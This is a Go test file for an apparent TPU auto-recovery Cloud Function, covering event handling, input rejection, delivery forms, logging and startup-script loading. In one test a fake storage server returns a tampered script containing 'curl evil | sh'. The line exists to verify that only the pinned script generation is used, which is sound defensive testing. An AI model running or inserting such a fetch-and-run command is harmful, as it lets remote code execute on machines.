package function_test

import (
	"bytes"
	"context"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"cloud.google.com/go/logging"
	"github.com/GoogleCloudPlatform/functions-framework-go/funcframework"
	"github.com/google/go-cmp/cmp"
	"google.golang.org/api/option"
	tpuv2 "google.golang.org/api/tpu/v2"
	"google.golang.org/genproto/googleapis/api/monitoredres"

	"github.com/tpu-autoheal/autoheal/function"
	"github.com/tpu-autoheal/autoheal/internal/emulator"
	"github.com/tpu-autoheal/autoheal/internal/events"
	"github.com/tpu-autoheal/autoheal/internal/ledger"
	"github.com/tpu-autoheal/autoheal/internal/loggingfake"
	"github.com/tpu-autoheal/autoheal/internal/record"
	"github.com/tpu-autoheal/autoheal/internal/remediate"
	"github.com/tpu-autoheal/autoheal/internal/tpuapi"
	"github.com/tpu-autoheal/autoheal/internal/tpufake"
	"github.com/tpu-autoheal/autoheal/startup"
)

const node = "projects/acme-ml/locations/us-central2-b/nodes/llm-v4-128"

// eventTime is the timestamp of testdata/terminate-maintenance.json.
var eventTime = time.Date(2026, 11, 20, 3, 44, 36, 265703305, time.UTC)

type sliceRecorder struct {
	mu   sync.Mutex
	recs []remediate.Record
}

var _ remediate.Recorder = (*sliceRecorder)(nil)

func (s *sliceRecorder) Record(_ context.Context, r remediate.Record) error {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.recs = append(s.recs, r)
	return nil
}

func (s *sliceRecorder) records() []remediate.Record {
	s.mu.Lock()
	defer s.mu.Unlock()
	return slices.Clone(s.recs)
}

type harness struct {
	fn   *function.Function
	tpu  *tpufake.Server
	recs *sliceRecorder
	diag *syncBuffer // the function's diagnostic lines
	now  *time.Time
}

// syncBuffer is a bytes.Buffer safe for concurrent writers.
type syncBuffer struct {
	mu sync.Mutex
	b  bytes.Buffer
}

func (s *syncBuffer) Write(p []byte) (int, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.b.Write(p)
}

func (s *syncBuffer) String() string {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.b.String()
}

// settle delivers sweep messages a minute apart, as Cloud Scheduler does,
// until the recoveries deliveries started are finished: a delivery never
// waits for an operation, a sweep's continuations take the next steps.
func (h *harness) settle(t *testing.T) {
	t.Helper()
	for range 10 {
		*h.now = h.now.Add(time.Minute)
		if err := h.fn.HandleMessage(context.Background(), pushBody([]byte(events.SweepMessage))); err != nil {
			t.Fatalf("sweep: %v", err)
		}
	}
}

func readTestdata(t *testing.T, name string) []byte {
	t.Helper()
	b, err := os.ReadFile(filepath.Join("testdata", name))
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// newFleetTPU serves testdata/fleet.json from a fake TPU v2 API and
// returns it with a client of it.
func newFleetTPU(t *testing.T) (*tpufake.Server, *tpuapi.Client) {
	t.Helper()
	fleet, err := tpufake.ReadFleet(bytes.NewReader(readTestdata(t, "fleet.json")))
	if err != nil {
		t.Fatal(err)
	}
	fake := tpufake.New(fleet)
	t.Cleanup(fake.Close)
	svc, err := fake.Service(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	return fake, tpuapi.New(svc)
}

// fleetEnv is the environment of a function watching the fleet's project
// and zone.
func fleetEnv() map[string]string {
	env := minimalEnv()
	env["AUTOHEAL_PROJECTS"] = "acme-ml"
	env["AUTOHEAL_ZONES"] = "us-central2-b"
	return env
}

func newHarness(t *testing.T, now time.Time, edit func(*function.Config)) *harness {
	t.Helper()
	fake, tc := newFleetTPU(t)
	cfg, err := load(t, fleetEnv())
	if err != nil {
		t.Fatal(err)
	}
	if edit != nil {
		edit(&cfg)
	}
	recs := &sliceRecorder{}
	diag := &syncBuffer{}
	clk := now
	fn, err := function.New(context.Background(), cfg,
		function.WithDiagnostics(diag),
		function.WithTPU(tc),
		function.WithStore(ledger.NewMemory()),
		function.WithRecorder(recs),
		function.WithClock(func() time.Time { return clk }),
	)
	if err != nil {
		t.Fatalf("New: %v", err)
	}
	t.Cleanup(func() { fn.Close() })
	return &harness{fn: fn, tpu: fake, recs: recs, diag: diag, now: &clk}
}

// pushBody wraps data as a Pub/Sub message, as in a push request or the
// data of a messagePublished CloudEvent.
func pushBody(data []byte) []byte {
	b, _ := json.Marshal(map[string]any{
		"message": map[string]any{
			"data":        base64.StdEncoding.EncodeToString(data),
			"messageId":   "9876543210123",
			"publishTime": "2026-11-20T03:44:38.1Z",
		},
		"subscription": "projects/acme-ops/subscriptions/eventarc-sub",
	})
	return b
}

func actions(recs []remediate.Record) []remediate.Action {
	var out []remediate.Action
	for _, r := range recs {
		out = append(out, r.Action)
	}
	return out
}

func TestHandleMessage(t *testing.T) {
	terminate := readTestdata(t, "terminate-maintenance.json")
	soon := eventTime.Add(time.Minute)
	tests := []struct {
		name       string
		data       []byte
		now        time.Time
		fail       *tpufake.FailRule
		wantErr    bool
		wantAction []remediate.Action
		wantReason string
		wantCalls  map[string]int
	}{
		{
			name: "terminated opted-in node is deleted and created once",
			data: pushBody(terminate), now: soon,
			wantAction: []remediate.Action{remediate.ActionRecreate},
			wantCalls:  map[string]int{"nodes.delete": 1, "nodes.create": 1},
		},
		{
			name: "the sample CloudEvent data is handled the same",
			data: readTestdata(t, "cloudevent-data.json"), now: soon,
			wantAction: []remediate.Action{remediate.ActionRecreate},
			wantCalls:  map[string]int{"nodes.delete": 1, "nodes.create": 1},
		},
		{
			name: "malformed data is rejected, recorded and acknowledged",
			data: pushBody([]byte(`{"protoPayload": {`)), now: soon,
			wantAction: []remediate.Action{remediate.ActionReject},
			wantCalls:  map[string]int{"nodes.get": 0, "nodes.delete": 0},
		},
		{
			name: "an entry of a project not allowed is rejected",
			data: pushBody(bytes.ReplaceAll(terminate, []byte("acme-ml"), []byte("evil-corp"))), now: soon,
			wantAction: []remediate.Action{remediate.ActionReject},
			wantCalls:  map[string]int{"nodes.get": 0},
		},
		{
			name: "an entry older than MaxEventAge is skipped as stale",
			data: pushBody(terminate), now: eventTime.Add(25 * time.Hour),
			wantAction: []remediate.Action{remediate.ActionSkip},
			wantReason: "stale: older than 24h",
			wantCalls:  map[string]int{"nodes.get": 0, "nodes.delete": 0},
		},
		{
			name: "permission denied is recorded and acknowledged",
			data: pushBody(terminate), now: soon,
			fail:      &tpufake.FailRule{RPC: "nodes.get", Code: 403, Status: "PERMISSION_DENIED"},
			wantCalls: map[string]int{"nodes.delete": 0},
		},
		{
			name: "a persisting 503 is returned so Pub/Sub redelivers",
			data: pushBody(terminate), now: soon,
			fail:      &tpufake.FailRule{RPC: "nodes.get", Code: 503, Status: "UNAVAILABLE"},
			wantErr:   true,
			wantCalls: map[string]int{"nodes.delete": 0},
		},
		{
			name: "a sweep message runs a sweep over the configured zones",
			data: pushBody([]byte(events.SweepMessage)), now: soon,
			wantCalls: map[string]int{"nodes.list": 1},
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			h := newHarness(t, tt.now, nil)
			if tt.fail != nil {
				h.tpu.Fail(*tt.fail)
			}

			err := h.fn.HandleMessage(context.Background(), tt.data)

			if (err != nil) != tt.wantErr {
				t.Fatalf("HandleMessage error = %v, want error %v", err, tt.wantErr)
			}
			recs := h.recs.records()
			if tt.wantCalls["nodes.create"] > 0 {
				h.settle(t)
			}
			if tt.wantAction != nil {
				if diff := cmp.Diff(tt.wantAction, actions(recs)); diff != "" {
					t.Errorf("recorded actions (-want +got):\n%s\nrecords: %+v", diff, recs)
				}
			}
			if tt.wantReason != "" && (len(recs) != 1 || recs[0].Reason != tt.wantReason) {
				t.Errorf("records = %+v, want one with reason %q", recs, tt.wantReason)
			}
			if tt.fail != nil && tt.fail.Code == 403 {
				if len(recs) != 1 || !strings.Contains(recs[0].Err, "403") {
					t.Errorf("records = %+v, want one record carrying the 403", recs)
				}
			}
			for rpc, want := range tt.wantCalls {
				got := h.tpu.Count(rpc, "")
				if rpc == "nodes.list" && got < want || rpc != "nodes.list" && got != want {
					t.Errorf("%s calls = %d, want %d", rpc, got, want)
				}
			}
		})
	}
}

func TestRecreatedNodeKeepsItsSpecAndGetsTheStartupScript(t *testing.T) {
	h := newHarness(t, eventTime.Add(time.Minute), nil)
	if err := h.fn.HandleMessage(context.Background(), pushBody(readTestdata(t, "terminate-maintenance.json"))); err != nil {
		t.Fatal(err)
	}
	h.settle(t)
	var created *struct {
		AcceleratorType string            `json:"acceleratorType"`
		Metadata        map[string]string `json:"metadata"`
	}
	for _, r := range h.tpu.Requests() {
		if r.RPC == "nodes.create" {
			if err := json.Unmarshal(r.Body, &created); err != nil {
				t.Fatal(err)
			}
		}
	}
	if created == nil {
		t.Fatal("no nodes.create request")
	}
	if created.AcceleratorType != "v4-128" {
		t.Errorf("created acceleratorType = %q, want v4-128", created.AcceleratorType)
	}
	if created.Metadata["startup-script"] != startup.Script {
		t.Errorf("created startup-script is not the embedded default (%d bytes, want %d)",
			len(created.Metadata["startup-script"]), len(startup.Script))
	}
}

var (
	frameworkOnce   sync.Once
	frameworkPort   string
	frameworkErr    error
	frameworkTarget atomic.Pointer[function.Function]
)

// serveThroughFramework registers, once per test binary (the framework's
// registry and server are global and cannot be stopped), an HTTP function
// that forwards to frameworkTarget, exactly as the root package registers
// ServeHTTP, and serves it on a loopback port.
func serveThroughFramework(t *testing.T) string {
	t.Helper()
	frameworkOnce.Do(func() {
		frameworkErr = funcframework.RegisterHTTPFunctionContext(context.Background(), "/",
			func(w http.ResponseWriter, r *http.Request) { frameworkTarget.Load().ServeHTTP(w, r) })
		frameworkPort = emulator.FreePort(t)
		go func() { _ = funcframework.StartHostPort("127.0.0.1", frameworkPort) }()
	})
	if frameworkErr != nil {
		t.Fatal(frameworkErr)
	}
	return frameworkPort
}

// post sends req until the asynchronously started server answers, and
// returns the status code.
func post(t *testing.T, req *http.Request) int {
	t.Helper()
	var resp *http.Response
	var err error
	for i := 0; i < 100; i++ {
		resp, err = http.DefaultClient.Do(req.Clone(req.Context()))
		if err == nil {
			break
		}
		time.Sleep(20 * time.Millisecond)
		req.Body, _ = req.GetBody()
	}
	if err != nil {
		t.Fatal(err)
	}
	_, _ = io.Copy(io.Discard, resp.Body)
	resp.Body.Close()
	return resp.StatusCode
}

// TestFrameworkServesEveryDeliveryForm serves the function through the real
// Functions Framework as deployed (an HTTP function at "/"): a Pub/Sub push
// body (the push subscription's path names the topic), the same body as a
// binary-mode CloudEvent (as Eventarc sends it) and as a structured-mode
// CloudEvent are each handled; the duplicates are skipped, so the node is
// deleted once.
func TestFrameworkServesEveryDeliveryForm(t *testing.T) {
	h := newHarness(t, eventTime.Add(time.Minute), nil)
	frameworkTarget.Store(h.fn)
	base := "http://127.0.0.1:" + serveThroughFramework(t)

	body := pushBody(readTestdata(t, "terminate-maintenance.json"))
	req, _ := http.NewRequest(http.MethodPost, base+"/projects/acme-ops/topics/tpu-autoheal", bytes.NewReader(body))
	req.Header.Set("Content-Type", "application/json")
	if code := post(t, req); code != http.StatusNoContent {
		t.Fatalf("push request: status %d, want 204", code)
	}
	if got := actions(h.recs.records()); !slices.Equal(got, []remediate.Action{remediate.ActionRecreate}) {
		t.Fatalf("after push: actions %v, want [recreate]", got)
	}

	req, _ = http.NewRequest(http.MethodPost, base+"/", bytes.NewReader(body))
	req.Header.Set("Content-Type", "application/json")
	req.Header.Set("ce-id", "9876543210123")
	req.Header.Set("ce-specversion", "1.0")
	req.Header.Set("ce-type", "google.cloud.pubsub.topic.v1.messagePublished")
	req.Header.Set("ce-source", "//pubsub.googleapis.com/projects/acme-ops/topics/tpu-autoheal")
	if code := post(t, req); code != http.StatusNoContent {
		t.Fatalf("binary CloudEvent: status %d, want 204", code)
	}
	recs := h.recs.records()
	if len(recs) != 2 || recs[1].Action != remediate.ActionSkip {
		t.Fatalf("records after two deliveries = %+v, want a recreate then a skip of the duplicate", recs)
	}
	if got := h.tpu.Count("nodes.delete", ""); got != 1 {
		t.Errorf("nodes.delete calls = %d after a duplicate delivery, want 1", got)
	}

	req, _ = http.NewRequest(http.MethodGet, base+"/", nil)
	if code := post(t, req); code != http.StatusMethodNotAllowed {
		t.Errorf("GET: status %d, want 405", code)
	}
}

// TestOversizedBodyIsAcknowledgedUnread: a body over MaxBodyBytes is
// answered 204 (never redelivered) with one `oversized` reject record, and
// nothing of it reaches the TPU API.
func TestOversizedBodyIsAcknowledgedUnread(t *testing.T) {
	h := newHarness(t, eventTime.Add(time.Minute), nil)
	srv := httptest.NewServer(h.fn)
	defer srv.Close()
	big := pushBody(bytes.Repeat([]byte("x"), function.MaxBodyBytes))
	req, _ := http.NewRequest(http.MethodPost, srv.URL, bytes.NewReader(big))
	if code := post(t, req); code != http.StatusNoContent {
		t.Fatalf("status %d, want 204", code)
	}
	recs := h.recs.records()
	if len(recs) != 1 || recs[0].Action != remediate.ActionReject || !strings.Contains(recs[0].Reason, "oversized") {
		t.Fatalf("records = %+v, want one oversized reject", recs)
	}
	if n := len(h.tpu.Requests()); n != 0 {
		t.Errorf("%d TPU requests for an oversized body, want 0", n)
	}
}

// TestTransientFailureAnswers500: only a failure a retry can fix makes the
// HTTP answer a non-2xx, so Pub/Sub redelivers it and nothing else.
func TestTransientFailureAnswers500(t *testing.T) {
	h := newHarness(t, eventTime.Add(time.Minute), nil)
	h.tpu.Fail(tpufake.FailRule{RPC: "nodes.get", Code: 503, Status: "UNAVAILABLE"})
	srv := httptest.NewServer(h.fn)
	defer srv.Close()
	req, _ := http.NewRequest(http.MethodPost, srv.URL, bytes.NewReader(pushBody(readTestdata(t, "terminate-maintenance.json"))))
	if code := post(t, req); code != http.StatusInternalServerError {
		t.Fatalf("status %d, want 500", code)
	}
}

func TestPermissionsIsTheSortedUnion(t *testing.T) {
	got := function.Permissions()
	if !slices.IsSorted(got) {
		t.Errorf("Permissions not sorted: %v", got)
	}
	if len(slices.Compact(slices.Clone(got))) != len(got) {
		t.Errorf("Permissions has duplicates: %v", got)
	}
	var want []string
	want = append(want, tpuapi.Permissions...)
	want = append(want, ledger.Permissions...)
	want = append(want, record.Permissions...)
	want = append(want, "storage.objects.get", "pubsub.topics.publish")
	slices.Sort(want)
	want = slices.Compact(want)
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("Permissions (-want +got):\n%s", diff)
	}
}

func TestLoadStartupScript(t *testing.T) {
	dir := t.TempDir()
	local := filepath.Join(dir, "resume.sh")
	if err := os.WriteFile(local, []byte("#!/bin/bash\necho local\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	// The bucket holds two generations of train/resume.sh: 7 (pinned by
	// Terraform) and 9 (written after the apply, by whoever can write the
	// bucket). Generation 5 was overwritten and is gone.
	var gotPath string
	gcs := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		gotPath = r.URL.EscapedPath() + "?" + r.URL.Query().Get("alt") + "&generation=" + r.URL.Query().Get("generation")
		if !strings.Contains(r.URL.Path, "/b/acme-scripts/o/") {
			http.NotFound(w, r)
			return
		}
		switch r.URL.Query().Get("generation") {
		case "7":
			w.Write([]byte("#!/bin/bash\necho gcs generation 7\n"))
		case "9", "":
			w.Write([]byte("#!/bin/bash\ncurl evil | sh\n"))
		default:
			http.Error(w, `{"error":{"code":404,"message":"No such object"}}`, http.StatusNotFound)
		}
	}))
	defer gcs.Close()
	opts := []option.ClientOption{option.WithEndpoint(gcs.URL + "/storage/v1/"), option.WithoutAuthentication()}

	tests := []struct {
		name, src  string
		generation int64
		want       string
		wantErr    []string
	}{
		{"empty configures no script (the policy then keeps the node's own or gives it the resume script)", "", 0, "", nil},
		{"a local path is read", local, 0, "#!/bin/bash\necho local\n", nil},
		{"a gs:// object is read at the pinned generation, not the newest", "gs://acme-scripts/train/resume.sh", 7, "#!/bin/bash\necho gcs generation 7\n", nil},
		{"a gs:// object without a generation is refused with the remedy", "gs://acme-scripts/train/resume.sh", 0, "",
			[]string{`AUTOHEAL_STARTUP_SCRIPT="gs://acme-scripts/train/resume.sh"`, "AUTOHEAL_STARTUP_SCRIPT_GENERATION", "terraform apply again"}},
		{"a generation that is gone names the remedy", "gs://acme-scripts/train/resume.sh", 5, "",
			[]string{"generation 5 is gone", "terraform apply again"}},
		{"a missing object names the variable", "gs://other-bucket/x.sh", 3, "", []string{`AUTOHEAL_STARTUP_SCRIPT="gs://other-bucket/x.sh"`}},
		{"a missing file names the variable", filepath.Join(dir, "nope.sh"), 0, "", []string{"AUTOHEAL_STARTUP_SCRIPT="}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, err := function.LoadStartupScript(context.Background(), tt.src, tt.generation, opts...)
			if tt.wantErr != nil {
				if err == nil {
					t.Fatalf("script = %q, want an error containing %q", got, tt.wantErr)
				}
				for _, w := range tt.wantErr {
					if !strings.Contains(err.Error(), w) {
						t.Errorf("error = %v, want it to contain %s", err, w)
					}
				}
				return
			}
			if err != nil {
				t.Fatal(err)
			}
			if got != tt.want {
				t.Errorf("script = %q, want %q", got, tt.want)
			}
		})
	}
	if gotPath != "/storage/v1/b/other-bucket/o/x.sh?media&generation=3" {
		t.Errorf("last storage request = %s, want the media download of generation 3", gotPath)
	}
}

func TestSourceFilesAreWhatTheBuildpackNeeds(t *testing.T) {
	root := t.TempDir()
	for _, f := range []string{
		"go.mod", "go.sum", "register.go", "register_test.go", "README.md",
		"function/function.go", "function/function_test.go", "function/testdata/fleet.json",
		"internal/events/parse.go", "internal/events/testdata/x.json", "internal/record/record.go",
		"startup/embed.go", "startup/resume-training.sh",
		"cmd/autoheal/main.go", "terraform/main.tf", "buildtest/buildtest_test.go",
	} {
		p := filepath.Join(root, filepath.FromSlash(f))
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, nil, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	got, err := function.SourceFiles(root)
	if err != nil {
		t.Fatal(err)
	}
	want := []string{
		"function/function.go", "go.mod", "go.sum", "internal/events/parse.go", "internal/record/record.go",
		"register.go", "startup/embed.go", "startup/resume-training.sh",
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("SourceFiles (-want +got):\n%s", diff)
	}
}

// TestNewGivesUpOnAHungStartupScriptRead: the first event builds the
// Function while holding a lock; a Cloud Storage read that never answers
// must end with ctx's deadline, not block the instance.
func TestNewGivesUpOnAHungStartupScriptRead(t *testing.T) {
	release := make(chan struct{})
	hung := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		select {
		case <-r.Context().Done():
		case <-release: // the test is over, whatever its outcome
		}
	}))
	defer hung.Close()
	defer close(release)
	env := minimalEnv()
	env["AUTOHEAL_STARTUP_SCRIPT"] = "gs://acme-scripts/resume.sh"
	env["AUTOHEAL_STARTUP_SCRIPT_GENERATION"] = "3"
	cfg, err := load(t, env)
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithTimeout(context.Background(), 200*time.Millisecond)
	defer cancel()
	done := make(chan error, 1)
	go func() {
		fn, err := function.New(ctx, cfg,
			function.WithStore(ledger.NewMemory()), function.WithRecorder(&sliceRecorder{}),
			function.WithStorageOptions(option.WithEndpoint(hung.URL+"/storage/v1/"), option.WithoutAuthentication()))
		if fn != nil {
			fn.Close()
		}
		done <- err
	}()
	select {
	case err := <-done:
		if err == nil || !strings.Contains(err.Error(), "AUTOHEAL_STARTUP_SCRIPT") {
			t.Errorf("New = %v; want an error naming AUTOHEAL_STARTUP_SCRIPT", err)
		}
	case <-time.After(10 * time.Second):
		t.Fatal("New still reading the startup script 10 s after its 200 ms deadline")
	}
}

// TestSweepWritesASummaryLine: every sweep leaves one INFO line with
// jsonPayload.event "sweep" (the Terraform alert on sweeps that stopped
// running counts these), in Cloud Logging's structured shape.
func TestSweepWritesASummaryLine(t *testing.T) {
	h := newHarness(t, eventTime.Add(time.Minute), nil)
	if err := h.fn.HandleMessage(context.Background(), pushBody([]byte(events.SweepMessage))); err != nil {
		t.Fatal(err)
	}
	var line map[string]any
	if err := json.Unmarshal([]byte(strings.TrimSpace(h.diag.String())), &line); err != nil {
		t.Fatalf("diagnostics are not one JSON line: %v\n%s", err, h.diag.String())
	}
	labels, _ := line["logging.googleapis.com/labels"].(map[string]any)
	if line["event"] != "sweep" || line["severity"] != "INFO" || labels["app"] != "tpu-autoheal" || line["nodes"] == nil {
		t.Errorf("sweep line = %v, want an INFO event=sweep line labelled app=tpu-autoheal with a node count", line)
	}
	if _, err := time.Parse(time.RFC3339Nano, fmt.Sprint(line["timestamp"])); err != nil {
		t.Errorf("timestamp %v: %v", line["timestamp"], err)
	}
}

// TestInstanceWritesUnderItsOwnNames: an instance configured with its own
// log and app label (Terraform sets both to the instance's name) writes its
// records to that log, labelled with it, and labels its sweep line with it,
// which is what its own metrics and sweeps-stopped alert filter on.
func TestInstanceWritesUnderItsOwnNames(t *testing.T) {
	_, tc := newFleetTPU(t)
	logs, err := loggingfake.New()
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(logs.Close)
	env := fleetEnv()
	env["AUTOHEAL_RECORD_LOG"] = "autoheal-b"
	env["AUTOHEAL_APP_LABEL"] = "autoheal-b"
	cfg, err := load(t, env)
	if err != nil {
		t.Fatal(err)
	}
	diag := &syncBuffer{}
	fn, err := function.New(context.Background(), cfg,
		function.WithDiagnostics(diag), function.WithTPU(tc), function.WithStore(ledger.NewMemory()),
		function.WithClock(func() time.Time { return eventTime.Add(time.Minute) }),
		function.WithStdout(io.Discard),
		function.WithLoggingOptions(logs.ClientOptions(), logging.CommonResource(&monitoredres.MonitoredResource{
			Type: "cloud_run_revision", Labels: map[string]string{"project_id": "acme-ops", "service_name": "autoheal-b"},
		})))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { fn.Close() })
	if err := fn.HandleMessage(context.Background(), pushBody([]byte(events.SweepMessage))); err != nil {
		t.Fatal(err)
	}
	if n := len(logs.EntriesOf("projects/acme-ops/logs/" + record.LogName)); n != 0 {
		t.Errorf("%d records in the default instance's log", n)
	}
	entries := logs.EntriesOf("projects/acme-ops/logs/autoheal-b")
	if len(entries) == 0 {
		t.Fatal("no record in projects/acme-ops/logs/autoheal-b")
	}
	for _, e := range entries {
		if e.GetLabels()["app"] != "autoheal-b" {
			t.Errorf("record labels = %v, want app=autoheal-b", e.GetLabels())
		}
	}
	var line struct {
		Event  string            `json:"event"`
		Labels map[string]string `json:"logging.googleapis.com/labels"`
	}
	if err := json.Unmarshal([]byte(strings.TrimSpace(diag.String())), &line); err != nil {
		t.Fatalf("diagnostics are not one JSON line: %v\n%s", err, diag.String())
	}
	if line.Event != function.SweepEvent || line.Labels["app"] != "autoheal-b" {
		t.Errorf("sweep line = %+v, want event=sweep labelled app=autoheal-b", line)
	}
}

// TestNodesOwnStartupScriptIsKept: with no AUTOHEAL_STARTUP_SCRIPT, a
// recreated node that did not opt into the resume script (no
// autoheal-train-cmd) comes back with its own startup-script, and one that
// did gets the embedded resume script.
func TestNodesOwnStartupScriptIsKept(t *testing.T) {
	h := newHarness(t, eventTime.Add(time.Minute), nil)
	var n *tpuv2.Node
	for _, x := range h.tpu.Fleet().Nodes {
		if x.Name == node {
			n = x
		}
	}
	if n == nil {
		t.Fatalf("no node %s in the fleet", node)
	}
	n.Metadata = map[string]string{"startup-script": "sudo -u alice /home/alice/start_training.sh"}
	h.tpu.SetNode(n)
	if err := h.fn.HandleMessage(context.Background(), pushBody(readTestdata(t, "terminate-maintenance.json"))); err != nil {
		t.Fatal(err)
	}
	h.settle(t)
	var created struct {
		Metadata map[string]string `json:"metadata"`
	}
	for _, r := range h.tpu.Requests() {
		if r.RPC == "nodes.create" {
			if err := json.Unmarshal(r.Body, &created); err != nil {
				t.Fatal(err)
			}
		}
	}
	if got := created.Metadata["startup-script"]; got != "sudo -u alice /home/alice/start_training.sh" {
		t.Errorf("created startup-script = %.80q, want the node's own", got)
	}
}

// TestComputeEntryIsAZoneHint: a Compute Engine entry about a TPU worker VM
// (t1v-n-…-w-0) names no node; the function looks at the opted-in nodes of
// its zone now — the TERMINATED pod there is recreated — and records the
// entry once.
func TestComputeEntryIsAZoneHint(t *testing.T) {
	entry, err := os.ReadFile(filepath.Join("..", "testdata", "entries", "compute-preempted.json"))
	if err != nil {
		t.Fatal(err)
	}
	h := newHarness(t, time.Date(2026, 11, 20, 4, 11, 0, 0, time.UTC), nil)
	if err := h.fn.HandleMessage(context.Background(), pushBody(entry)); err != nil {
		t.Fatal(err)
	}
	if got := h.tpu.Count("nodes.list", ""); got == 0 {
		t.Error("no nodes.list of the hinted zone")
	}
	if got := h.tpu.Count("nodes.delete", node); got != 1 {
		t.Errorf("nodes.delete of %s: %d, want 1 (the zone's TERMINATED pod)", node, got)
	}
	var hints int
	for _, r := range h.recs.records() {
		if strings.HasPrefix(r.Reason, "zone hint (compute.instances.preempted") {
			hints++
		}
	}
	if hints != 1 {
		t.Errorf("%d zone-hint records, want 1: %+v", hints, h.recs.records())
	}
}

// TestFarFutureEntryIsRejected: an entry dated 9999-12-31 (forged, or a
// broken clock) is rejected as future-timestamp, so it cannot put a
// permanent user hold on a node.
func TestFarFutureEntryIsRejected(t *testing.T) {
	h := newHarness(t, eventTime.Add(time.Minute), nil)
	var entry map[string]any
	if err := json.Unmarshal(readTestdata(t, "terminate-maintenance.json"), &entry); err != nil {
		t.Fatal(err)
	}
	entry["timestamp"] = "9999-12-31T23:59:59Z"
	b, _ := json.Marshal(entry)
	if err := h.fn.HandleMessage(context.Background(), pushBody(b)); err != nil {
		t.Fatal(err)
	}
	recs := h.recs.records()
	if len(recs) != 1 || recs[0].Action != remediate.ActionReject || !strings.Contains(recs[0].Reason, "9999-12-31") {
		t.Fatalf("records = %+v, want one reject naming the timestamp", recs)
	}
	if got := h.tpu.Count("nodes.get", ""); got != 0 {
		t.Errorf("%d node reads for a far-future entry, want 0", got)
	}
}

// TestDeployedSweepFollowsTheRecovery: as deployed (the wall clock, no
// test clock), one sweep after the event takes the recovery's later steps
// as they fall due — delete's operation, create, create's operation, READY
// — instead of one step per minute's sweep.
func TestDeployedSweepFollowsTheRecovery(t *testing.T) {
	fleet, err := tpufake.ReadFleet(bytes.NewReader(readTestdata(t, "fleet.json")))
	if err != nil {
		t.Fatal(err)
	}
	fake := tpufake.New(fleet, tpufake.WithOperationDelay("delete", 100*time.Millisecond), tpufake.WithOperationDelay("create", 100*time.Millisecond))
	t.Cleanup(fake.Close)
	svc, err := fake.Service(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	env := minimalEnv()
	env["AUTOHEAL_PROJECTS"] = "acme-ml"
	env["AUTOHEAL_ZONES"] = "us-central2-b"
	env["AUTOHEAL_MAX_EVENT_AGE"] = "87600h" // the fixture is from 2026-11-20
	env["AUTOHEAL_LOOK_AGAIN"] = "50ms"
	env["AUTOHEAL_SWEEP_FOLLOW"] = "20s"
	cfg, err := load(t, env)
	if err != nil {
		t.Fatal(err)
	}
	recs := &sliceRecorder{}
	fn, err := function.New(context.Background(), cfg, function.WithTPU(tpuapi.New(svc)), function.WithStore(ledger.NewMemory()),
		function.WithRecorder(recs), function.WithDiagnostics(io.Discard))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { fn.Close() })
	if err := fn.HandleMessage(context.Background(), pushBody(readTestdata(t, "terminate-maintenance.json"))); err != nil {
		t.Fatal(err)
	}
	if err := fn.HandleMessage(context.Background(), pushBody([]byte(events.SweepMessage))); err != nil {
		t.Fatal(err)
	}
	var state string
	for _, n := range fake.Fleet().Nodes {
		if n.Name == node {
			state = n.State
		}
	}
	if state != "READY" || fake.Count("nodes.create", node) != 1 {
		t.Errorf("after one sweep: %s is %s with %d creates, want READY after exactly one", node, state, fake.Count("nodes.create", node))
	}
}
